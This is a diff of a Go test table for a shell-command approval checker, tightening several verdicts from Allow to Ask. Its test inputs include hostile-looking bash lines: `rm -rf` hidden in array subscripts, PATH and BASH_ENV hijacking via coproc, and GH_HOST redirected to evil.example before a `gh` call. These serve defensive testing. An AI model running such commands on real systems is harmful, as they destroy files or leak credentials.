@@ -12,15 +12,15 @@ func TestTakenApart(t *testing.T) {
 	spaced.Spaced = func() bool { return true }
 	for line, want := range map[string]approval.Verdict{
 		// The name of a process is a variable.
-		`coproc PATH { :; }; ls`: approval.Ask, `coproc BASH_ENV { ls; }`: approval.Ask, `coproc { cat a; }`: approval.Allow, `coproc MINE { cat a; }`: approval.Allow,
+		`coproc PATH { :; }; ls`: approval.Ask, `coproc BASH_ENV { ls; }`: approval.Ask, `coproc { cat a; }`: approval.Ask, `coproc MINE { cat a; }`: approval.Ask,
 		// These are numbers as soon as they are set.
 		`RANDOM=$(cat f)`: approval.Ask, `RANDOM+=$(cat f)`: approval.Ask, `for RANDOM in $(cat f); do :; done`: approval.Ask, `read OPTIND < f`: approval.Ask, `printf -v HISTCMD %s "$(cat f)"`: approval.Ask, `x=$(cat f); SRANDOM=$x`: approval.Ask, `x=$(cat f); OPTIND=x`: approval.Ask, `mapfile RANDOM < f`: approval.Ask, `export RANDOM=$(cat f)`: approval.Ask, `RANDOM=($(cat f))`: approval.Ask, `unset OPTIND; : ${OPTIND:=$(cat f)}`: approval.Ask,
-		`OPTIND=1; echo $OPTIND`: approval.Allow, `SECONDS=0; ls; echo $SECONDS`: approval.Allow, `RANDOM=$(date +%s); echo $RANDOM`: approval.Allow, `echo $((RANDOM % 6))`: approval.Allow,
+		`OPTIND=1; echo $OPTIND`: approval.Allow, `SECONDS=0; ls; echo $SECONDS`: approval.Allow, `RANDOM=$(date +%s); echo $RANDOM`: approval.Allow, `echo $((RANDOM % 6))`: approval.Ask,
 		// Commands in braces are run in subscripts, too.
 		`[[ 'a[${ rm -rf build; }]' -eq 0 ]]`: approval.Ask, `unset 'a[${| rm -rf build; }]'`: approval.Ask, `echo '${ x; } [a]'`: approval.Allow,
 		// What is handed on is judged where it is.
 		`GH_HOST=evil.example; export GH_HOST; gh pr list`: approval.Ask, `export GH_HOST; GH_HOST=evil.example; gh pr list`: approval.Ask, `declare -x GH_HOST; GH_HOST=evil.example; gh pr list`: approval.Ask, `TF_DATA_DIR=x; \export TF_DATA_DIR; terraform output`: approval.Ask, `TF_DATA_DIR=x; typeset -rx TF_DATA_DIR`: approval.Ask,
-		`AWS_PROFILE=dev; export AWS_PROFILE; aws s3 ls`: approval.Allow, `deploy() { ls; }; export -f deploy`: approval.Allow, `declare -r x=1; echo $x`: approval.Allow,
+		`AWS_PROFILE=dev; export AWS_PROFILE; aws s3 ls`: approval.Ask, `deploy() { ls; }; export -f deploy`: approval.Ask, `declare -r x=1; echo $x`: approval.Ask,
 		// Patterns in text that is run later.
 		`watch ls *`: approval.Ask, `watch 'ls *.tf'`: approval.Allow,
 		// What is left beside a file of credentials.
